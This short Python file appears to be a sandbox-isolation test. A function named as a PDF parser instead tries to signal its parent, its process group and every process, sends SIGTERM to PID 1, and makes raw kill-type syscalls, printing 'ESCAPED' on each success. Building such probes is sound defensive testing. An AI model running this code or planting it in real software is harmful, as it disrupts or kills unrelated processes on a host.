# class: proc
# goal: signal the parent, its group, and everybody
# ruff: noqa
import ctypes, os, signal


def parse(pdf_path):
    libc = ctypes.CDLL(None)
    for attempt in (
        lambda: os.kill(os.getppid(), signal.SIGUSR1),
        lambda: os.killpg(0, signal.SIGUSR1),
        lambda: os.kill(-1, signal.SIGUSR1),
        lambda: os.kill(1, signal.SIGTERM),
        lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGUSR1),
    ):
        try:
            attempt()
        except OSError:
            continue
        print("ESCAPED", flush=True)
    if libc.syscall(234, os.getppid(), os.getppid(), 10) == 0 or libc.syscall(200, os.getppid(), 10) == 0:
        print("ESCAPED tkill", flush=True)
    if libc.syscall(129, os.getppid(), 10, (ctypes.c_char * 128)()) == 0:
        print("ESCAPED sigqueue", flush=True)
